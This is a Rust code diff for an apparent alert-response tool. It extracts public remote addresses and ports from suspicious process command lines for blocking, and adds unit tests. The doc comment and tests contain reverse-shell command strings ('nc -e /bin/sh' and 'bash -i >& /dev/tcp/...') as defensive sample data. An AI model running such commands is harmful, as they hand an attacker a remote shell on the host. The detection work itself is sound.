@@ -266,12 +266,62 @@ fn target_values(alert: &Alert, target: Target) -> Vec<String> {
             }
             files.into_iter().collect()
         }
-        Target::RemoteEndpoints => dimensions
-            .file
-            .as_deref()
-            .and_then(|connection| connection.split_once("->"))
-            .map(|(_, remote)| remote.to_string())
-            .into_iter()
-            .collect(),
+        Target::RemoteEndpoints => {
+            let connected =
+                dimensions.file.as_deref().and_then(|connection| connection.split_once("->")).map(|(_, remote)| remote);
+            match connected {
+                Some(remote) => vec![remote.to_string()],
+                None => dimensions.process.cmdline.as_deref().map(remote_ends_in_command).unwrap_or_default(),
+            }
+        }
+    }
+}
+
+/// The public addresses a command line connects to, with their ports where it gives them:
+/// `nc -e /bin/sh 203.0.113.9 9001` → `203.0.113.9:9001`, `bash -i >& /dev/tcp/203.0.113.7/4444`
+/// → `203.0.113.7:4444`. Private, loopback and link-local addresses (scan targets, the metadata
+/// service) are not remote ends to block.
+fn remote_ends_in_command(command: &str) -> Vec<String> {
+    let words: Vec<&str> = command.split(|c: char| c.is_whitespace() || c == '/' || c == '>' || c == '&').collect();
+    let mut ends = Vec::new();
+    for (index, word) in words.iter().enumerate() {
+        let (host, inline_port) = match word.split_once(':') {
+            Some((host, port)) => (host, Some(port)),
+            None => (*word, None),
+        };
+        let Ok(address) = host.parse::<std::net::Ipv4Addr>() else { continue };
+        if address.is_private() || address.is_loopback() || address.is_link_local() || address.is_unspecified() {
+            continue;
+        }
+        let is_port =
+            |text: &str| !text.is_empty() && text.len() <= 5 && text.bytes().all(|byte| byte.is_ascii_digit());
+        let port = inline_port
+            .filter(|port| is_port(port))
+            .or_else(|| words.get(index + 1).copied().filter(|next| is_port(next)));
+        let end = match port {
+            Some(port) => format!("{address}:{port}"),
+            None => address.to_string(),
+        };
+        if !ends.contains(&end) {
+            ends.push(end);
+        }
+    }
+    ends
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn remote_ends_are_read_from_command_lines() {
+        assert_eq!(remote_ends_in_command("nc -e /bin/sh 203.0.113.9 9001"), ["203.0.113.9:9001"]);
+        assert_eq!(
+            remote_ends_in_command("sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"),
+            ["203.0.113.7:4444"]
+        );
+        assert!(remote_ends_in_command("nc -zv 10.20.3.15 5432").is_empty(), "an internal scan target");
+        assert!(remote_ends_in_command("curl -s http://169.254.169.254/latest/meta-data/").is_empty());
+        assert_eq!(remote_ends_in_command("curl 198.51.100.77:8080"), ["198.51.100.77:8080"]);
     }
 }
